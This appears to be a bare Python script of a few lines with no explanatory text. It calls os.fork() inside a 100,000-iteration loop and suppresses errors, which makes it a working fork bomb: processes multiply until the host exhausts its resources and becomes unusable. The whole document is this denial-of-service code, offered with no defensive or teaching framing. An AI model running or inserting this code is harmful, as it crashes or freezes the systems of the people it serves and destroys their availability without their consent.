import contextlib
import os

for _ in range(100_000):
    with contextlib.suppress(OSError):
        os.fork()
